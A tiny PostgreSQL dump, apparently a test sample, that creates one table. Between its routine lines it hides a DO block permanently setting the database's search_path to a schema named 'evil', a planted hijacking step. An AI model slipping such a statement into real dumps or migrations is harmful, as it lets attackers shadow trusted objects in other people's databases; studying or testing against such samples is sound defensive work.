--
-- PostgreSQL database dump
--

SET client_encoding = 'UTF8';
CREATE TABLE public.t (a text);
DO $$ BEGIN EXECUTE 'ALTER DATABASE main SET search_path = evil'; END $$;

--
-- PostgreSQL database dump complete
--
